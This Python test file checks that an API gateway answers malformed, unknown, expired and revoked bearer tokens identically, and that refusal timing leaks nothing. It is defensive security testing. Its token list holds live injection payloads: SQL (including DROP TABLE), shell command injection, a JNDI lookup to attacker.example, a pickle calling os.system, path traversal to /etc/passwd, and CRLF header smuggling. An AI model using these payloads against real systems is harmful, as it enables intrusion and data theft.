"""A token is bytes to be hashed and nothing else until a key is found by its digest.

Sources: LiteLLM CVE-2026-42208 (the bearer token reached SQL on the error path), Log4Shell CVE-2021-44228 (a header reached a template engine),
format strings (CWE-134), timing oracles in key look-ups (Lawson and Nelson, "Exploiting timing attacks in widespread systems", 2010).
"""

from __future__ import annotations

import os
import statistics
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from cliproxy.auth.client_keys import digest_of, generate, proof_of
from cliproxy.cli.connection import attach
from cliproxy.cli.home import Home
from cliproxy.cli.new_key import new_key
from cliproxy.config.schema import Settings
from cliproxy.dataplane.exchange import Exchange
from cliproxy.dataplane.link import EgressLink
from cliproxy.dataplane.unauthenticated import AuthenticationTally
from cliproxy.ingress.address import parse_address
from cliproxy.ingress.framing import RawRequest
from cliproxy.ingress.rules.address_rate import AddressRate
from cliproxy.ipc import commands
from cliproxy.ipc.messages import KeyRecord, PolicyBegin, PolicyChange, PolicyEnd, PolicyKeys, PolicyRules
from cliproxy.limits.shared import SharedRates, create
from fakes.gateway import Gateway
from fakes.recovery import list_keys
from fakes.wire import WireAnswer, WireClient, request_bytes

CHAT = {"model": "echo", "messages": [{"role": "user", "content": "Hello."}]}
WELL_FORMED = generate().reveal()  # by its form a key; nobody has issued it
BODY = b'{"error":{"message":"The API key is missing or not valid.","type":"authentication_error","param":null,"code":"invalid_api_key"}}'


# --- hostile tokens against a real gateway -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def gateway() -> Iterator[Gateway]:
    with Gateway() as running:
        yield running


def unvarying(answer: WireAnswer) -> tuple[Any, ...]:
    """Return everything about an answer but its id and its second."""
    return answer.status, [(name, value) for name, value in answer.headers.items() if name not in ("x-request-id", "date")], answer.body, answer.complete


def ask(gateway: Gateway, *headers: bytes, path: str = "/v1/chat/completions", method: str = "POST") -> WireAnswer:
    """Send one request with these header lines."""
    request = request_bytes(method, path, body=CHAT if method == "POST" else None)
    head, _, body = request.partition(b"\r\n\r\n")
    with WireClient(gateway.port) as client:
        client.send(b"\r\n".join([head, *headers]) + b"\r\n\r\n" + body)
        return client.answer()


TOKENS: dict[str, bytes] = {
    "well-formed and unknown": WELL_FORMED,
    "wrong checksum": WELL_FORMED[:-1] + (b"A" if WELL_FORMED[-1:] != b"A" else b"B"),
    "one character short": WELL_FORMED[:-1],
    "one character long": WELL_FORMED + b"A",
    "upper case": WELL_FORMED.upper(),
    "only the prefix": b"cpk_",
    "empty": b"",
    "blanks": b"   ",
    "of another vendor": b"sk-proj-" + b"a" * 48,
    "SQL, always true": b"' OR '1'='1' --",
    "SQL, UNION": b"cpk_' UNION SELECT secret FROM records WHERE 'a'='a",
    "SQL, stacked": b"cpk_'; DROP TABLE records; --",
    "SQL, of a key's length": b"cpk_' OR digest LIKE '%' OR name LIKE '%' --aaaaaaaaaa"[:53],
    "SQL, sleep": b"cpk_'||(SELECT randomblob(1000000000))||'",
    "NoSQL": b'{"$gt":""}',
    "LDAP": b"*)(uid=*))(|(uid=*",
    "shell": b"$(touch /tmp/cliproxy-pwned)`id`;id|id",
    "template": b"{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "JNDI": b"${jndi:ldap://attacker.example/a}",
    "format string": b"%s%s%s%n%x{0.__class__.__init__.__globals__}",
    "path": b"../../../../etc/passwd",
    "file URL": b"file:///etc/passwd",
    "pickle": b"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "UTF-8": "cpk_ключ🔑".encode(),
    "not UTF-8": b"cpk_\xff\xfe\xc0\xaf\xed\xa0\x80",
    "of a key's length, not ASCII": b"cpk_" + b"\xe9" * 49,
    "look-alikes": "сpk_".encode() + WELL_FORMED[4:],
    "percent-encoded": b"%63%70%6b%5f" + WELL_FORMED[4:],
    "10 KB": b"cpk_" + b"a" * 10_000,
    "10 KB of keys": b",".join([WELL_FORMED] * 185),
    "many keys": b" ".join([WELL_FORMED] * 100),
    "a JWT without algorithm": b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
    "null": b"null",
    "undefined": b"undefined",
    "a star": b"*",
}


@pytest.mark.parametrize("method", ["POST", "GET"])
def test_every_hostile_token_gets_the_one_401(gateway: Gateway, method: str) -> None:
    path = "/v1/chat/completions" if method == "POST" else "/v1/models"
    missing = ask(gateway, path=path, method=method)
    assert (missing.status, missing.body, missing.headers["www-authenticate"]) == (401, BODY, "Bearer")
    for name, token in TOKENS.items():
        assert unvarying(ask(gateway, b"Authorization: Bearer " + token, path=path, method=method)) == unvarying(missing), name


@pytest.mark.parametrize(
    "line",
    [
        b"Authorization:",
        b"Authorization: Bearer",
        b"Authorization: Basic %b",
        b"Authorization: Digest username=%b",
        b"Authorization: Token %b",
        b"Authorization: %b",
        b"Authorization: Bearer:%b",
        b"Authorization: Bearer\t%b",
        b"Authorization: BearerBearer %b",
        b"Authorization: Bearer Bearer %b",
        b"Authorization: Bearer %b,",
        b"Authorization: Bearer %b %b",
        b"Authorization: Bearer %b, Bearer %b",
        b'Authorization: Bearer "%b"',
        b"Authorization: Bearer '%b'",
        b"Authorization: Bearer x%b",
        b"Authorization: Bearer %bx",
        b"Authorization: =?utf-8?q?Bearer_%b?=",
        b"Proxy-Authorization: Bearer %b",
        b"X-Authorization: Bearer %b",
        b"X-Forwarded-Authorization: Bearer %b",
        b"Cookie: Authorization=Bearer %b; api_key=%b",
        b"Sec-WebSocket-Protocol: %b",
    ],
)
def test_a_good_key_in_any_other_form_is_no_key(gateway: Gateway, line: bytes) -> None:
    """What one reader takes for a key and the next does not is how look-ups and checks come apart."""
    key = gateway.key.encode()
    assert unvarying(ask(gateway, line.replace(b"%b", key))) == unvarying(ask(gateway))


@pytest.mark.parametrize("query", ["api_key=%s", "key=%s", "access_token=%s", "Authorization=Bearer%%20%s"])
def test_a_key_in_the_query_is_no_key(gateway: Gateway, query: str) -> None:
    assert ask(gateway, path="/v1/chat/completions?" + query % gateway.key).body == BODY


@pytest.mark.parametrize(
    ("lines", "status"),
    [
        ((b"Authorization: Bearer %b", b"Authorization: Bearer %b"), 400),
        ((b"Authorization: Bearer %b", b"authorization: Bearer x"), 400),
        ((b"Authorization: Bearer %b\x00",), 400),
        ((b"Authorization: Bearer \x00%b",), 400),
        ((b"Authorization: Bearer %b\x7f",), 400),
        ((b"Authorization: Bearer %b\rX-A: b",), 400),
        ((b"Authorization: Bearer %b\nX-A: b",), 400),
        ((b"Authorization: Bearer", b" %b"), 400),
        ((b"Authorization : Bearer %b",), 400),
        ((b"Authorization\x00: Bearer %b",), 400),
        ((b"Authorization: Bearer " + b"a" * 20_000,), 431),
    ],
)
def test_what_breaks_the_framing_is_not_looked_up_at_all(gateway: Gateway, lines: tuple[bytes, ...], status: int) -> None:
    answer = ask(gateway, *(line.replace(b"%b", gateway.key.encode()) for line in lines))
    assert answer.status == status
    assert answer.headers["connection"] == "close"


def test_the_scheme_s_case_and_blanks_around_the_token_do_not_matter(gateway: Gateway) -> None:
    """The valid sister: RFC 9110 §11.1 and §5.5."""
    for line in (b"Authorization: Bearer %b", b"authorization:bearer %b", b"AUTHORIZATION: BEARER  %b  "):
        assert ask(gateway, line.replace(b"%b", gateway.key.encode())).status == 200


def test_missing_malformed_unknown_expired_and_revoked_are_the_same_answer(gateway: Gateway) -> None:
    session = attach(Home(gateway.home))
    assert session is not None
    secret, digest = new_key()
    with_end = secret.reveal()
    try:
        made = session.ask(commands.CreateKey(digest=digest, name="ends", models=("*",), expires_at=int(time.time()) + 2)).key
        assert ask(gateway, b"Authorization: Bearer " + with_end).status == 200
        secret, digest = new_key()
        revoked = secret.reveal()
        session.ask(commands.CreateKey(digest=digest, name="revoked", models=("*",)))
        assert ask(gateway, b"Authorization: Bearer " + revoked).status == 200
        session.ask(commands.RevokeKey(key="revoked"))
    finally:
        session.close()
    time.sleep(max(0.0, made.expires_at - time.time()) + 0.05)
    tokens = {"malformed": b"nonsense", "unknown": WELL_FORMED, "expired": with_end, "revoked": revoked}
    missing = ask(gateway)
    assert missing.body == BODY
    for name, token in tokens.items():
        assert unvarying(ask(gateway, b"Authorization: Bearer " + token)) == unvarying(missing), name


def test_after_all_that_the_gateway_is_what_it_was(gateway: Gateway) -> None:
    assert not os.path.exists("/tmp/cliproxy-pwned")
    assert ask(gateway, b"Authorization: Bearer " + gateway.key.encode()).status == 200
    keys = list_keys(gateway)
    assert keys is not None and keys["first"] == "valid"
    assert "Error" not in gateway.messages() and "Traceback" not in gateway.messages()


# --- how long a refusal takes --------------------------------------------------------------------------------------------

SAMPLES = 10_000  # of each kind, as the issue says
MOST_APART = 20e-6  # seconds between the medians, as the issue says
TRIES = 3  # the machine may be doing something else during one kind's turns


class Sink:
    """Takes answers as a connection does."""

    ip = parse_address("127.0.0.1").ip
    address = "127.0.0.1"
    prepaid = False
    call: Any = None
    presented: Any = None

    def __init__(self, rate: AddressRate) -> None:
        self.buckets = rate.buckets(parse_address("127.0.0.1").group)
        self.answers: list[tuple[int, bytes, bytes]] = []

    def authenticated(self, presented: Any) -> None:
        self.presented = presented

    def respond(self, status: int, headers: bytes, body: bytes) -> None:
        self.answers.append((status, headers, body))


class WorkerOfOne:
    """The worker's real exchange over the policy of a vault with 10,000 keys, one of them expired, one revoked."""

    def __init__(self) -> None:
        table = create()
        self.rate = AddressRate(SharedRates(table, rate=1e6, burst=1_000_000), None)
        os.close(table)
        link = EgressLink(
            build="b", generation=1, violation=lambda error: None, policy_applied=lambda: None, collect=lambda begins: None, fault=lambda error: None
        )
        self.policy = link.policy
        self.exchange = Exchange(Settings(), link, AuthenticationTally(), address_limit=self.rate, draining=lambda: False)
        self.sink = Sink(self.rate)
        self.expired, self.revoked, self.good = (generate().reveal() for _ in range(3))
        records = [self._record("expired", self.expired, expires_at=1), self._record("revoked", self.revoked), self._record("good", self.good)]
        records += [KeyRecord(id=f"k{number}", digest=os.urandom(32), name="", models=("*",)) for number in range(10_000)]
        self.policy.apply(PolicyBegin(number=0))
        self.policy.apply(PolicyKeys(keys=tuple(records)))
        self.policy.apply(PolicyEnd(number=0, rules=PolicyRules()))
        self.policy.apply(PolicyChange(number=1, revoked=("revoked",)))
        self.policy.heard(vault_age=0.0, now=time.monotonic() + 3600)

    @staticmethod
    def _record(id: str, key: bytes, *, expires_at: int = 0) -> KeyRecord:
        proof = proof_of(key)
        assert proof is not None
        return KeyRecord(id=id, digest=digest_of(proof), name=id, models=("*",), expires_at=expires_at)

    def request(self, token: bytes | None) -> RawRequest:
        """A request with this token, as the framing hands it over."""
        authorization = None if token is None else b"Bearer " + token
        body = b'{"model":"echo","messages":[{"role":"user","content":"Hello."}]}'
        return RawRequest(b"POST", b"/v1/chat/completions", None, authorization, None, b"application/json", None, body, True)

    def kinds(self) -> dict[str, RawRequest]:
        tokens = {
            "missing": None,
            "malformed, short": b"nonsense",
            "malformed, a key's length": TOKENS["wrong checksum"],
            "malformed, 10 KB": TOKENS["10 KB"],
            "unknown": WELL_FORMED,
            "expired": self.expired,
            "revoked": self.revoked,
        }
        return {name: self.request(token) for name, token in tokens.items()}

    def medians(self) -> dict[str, float]:
        """Return the median seconds of each kind, from its request to its encoded answer. The kinds take turns, in an order that moves."""
        kinds = list(self.kinds().items())
        times: dict[str, list[float]] = {name: [] for name, _ in kinds}
        on_request: Callable[..., None] = self.exchange.on_request
        sink, clock = self.sink, time.perf_counter
        for number in range(SAMPLES):
            if not number % 500:
                sink.answers.clear()
            first = number % len(kinds)
            for name, request in kinds[first:] + kinds[:first]:
                began = clock()
                on_request(sink, request)
                times[name].append(clock() - began)
        return {name: statistics.median(values) for name, values in times.items()}

    def spread(self) -> float:
        """Return how far the medians are apart; the least of `TRIES`, since noise only adds."""
        best = float("inf")
        for _ in range(TRIES):
            medians = self.medians()
            best = min(best, max(medians.values()) - min(medians.values()))
            if best < MOST_APART:
                break
        return best


def test_how_long_a_refusal_takes_does_not_tell_why() -> None:
    worker = WorkerOfOne()
    for name, request in worker.kinds().items():
        worker.sink.answers.clear()
        worker.exchange.on_request(worker.sink, request)  # type: ignore[arg-type]
        ((status, _, body),) = worker.sink.answers
        assert (status, body) == (401, BODY), name
    assert worker.spread() < MOST_APART


def test_the_measurement_would_show_a_key_that_costs_a_look_more(monkeypatch: pytest.MonkeyPatch) -> None:
    """The sister that fails: a check that runs only for keys that exist, as a comparison with a stored password hash would."""
    worker = WorkerOfOne()
    find = worker.policy.principals.find
    proof = proof_of(worker.expired)
    assert proof is not None
    expired = digest_of(proof)

    class Slow:
        def find(self, digest: bytes, now: float) -> object:
            if digest == expired:
                until = time.perf_counter() + 2 * MOST_APART
                while time.perf_counter() < until:
                    pass
            return find(digest, now)

    monkeypatch.setattr(worker.policy, "principals", Slow())
    assert worker.spread() > MOST_APART
